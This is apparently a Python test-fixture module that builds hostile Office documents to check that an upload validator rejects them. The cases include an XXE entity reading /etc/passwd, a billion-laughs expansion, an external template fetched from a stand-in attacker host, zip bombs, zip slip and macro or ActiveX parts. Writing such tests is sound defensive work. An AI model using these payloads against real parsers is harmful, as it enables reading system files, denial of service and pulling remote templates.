"""Generates valid and hostile Office files for the upload tests (nothing is checked in)."""

from __future__ import annotations

import io
import zipfile

import docx
import openpyxl

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def valid_docx(text: str = "Individual Management Review", paragraphs: int = 1) -> bytes:
    document = docx.Document()
    for i in range(paragraphs):
        document.add_paragraph(f"{text} {i}" if paragraphs > 1 else text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def valid_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Recommendation", "Action", "Lead agency"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rebuild(
    source: bytes,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    compression=zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of the package with parts replaced or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as original,
        zipfile.ZipFile(out, "w", compression) as copy,
    ):
        for item in original.infolist():
            copy.writestr(item.filename, replace.get(item.filename, original.read(item.filename)))
        for name, body in add.items():
            copy.writestr(name, body)
    return out.getvalue()


def _content_types(source: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(source)) as package:
        return package.read("[Content_Types].xml")


XXE = b"""<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"""

EXTERNAL_TEMPLATE = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="http://attacker.invalid/template.dotm" TargetMode="External"/></Relationships>"""


def hostile_corpus() -> list[tuple[str, str, bytes, int, str]]:
    """(case, file name, bytes, expected status, expected reason code)."""
    good = valid_docx()
    types = _content_types(good)
    many = {f"customXml/junk{i}.xml": b"<a/>" for i in range(1500)}
    return [
        (
            "zip bomb",
            "bomb.docx",
            rebuild(good, add={"word/media/big.xml": b"\0" * 8_000_000}),
            422,
            "zip_bomb",
        ),
        ("entry-count bomb", "many.docx", rebuild(good, add=many), 422, "too_many_parts"),
        ("xxe", "xxe.docx", rebuild(good, replace={"word/document.xml": XXE}), 422, "doctype"),
        (
            "billion laughs",
            "laughs.docx",
            rebuild(good, replace={"word/document.xml": LAUGHS}),
            422,
            "doctype",
        ),
        (
            "macro content type",
            "macro.docx",
            rebuild(
                good,
                replace={
                    "[Content_Types].xml": types.replace(WORD_MAIN.encode(), MACRO_MAIN.encode())
                },
            ),
            415,
            "macro_enabled",
        ),
        (
            "hidden vbaProject",
            "vba.docx",
            rebuild(good, add={"word/vbaProject.bin": b"\1" * 64}),
            415,
            "active_content",
        ),
        (
            "activeX",
            "ax.docx",
            rebuild(good, add={"word/activeX/activeX1.xml": b"<ax/>"}),
            415,
            "active_content",
        ),
        (
            "external template",
            "template.docx",
            rebuild(good, add={"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}),
            422,
            "external_link",
        ),
        (
            "OLE",
            "protected.docx",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
            415,
            "protected_ole",
        ),
        (
            "PDF named .docx",
            "report.docx",
            b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n",
            415,
            "wrong_extension",
        ),
        ("wrong extension", "plan.docx", valid_xlsx(), 415, "wrong_extension"),
        ("zip slip", "slip.docx", rebuild(good, add={"../../evil.txt": b"x"}), 422, "unsafe_name"),
        ("not a zip", "notes.docx", b"just some text", 415, "not_office"),
        (
            "broken XML",
            "broken.docx",
            rebuild(good, replace={"word/document.xml": b"<w:document><unclosed>"}),
            422,
            "unreadable",
        ),
    ]
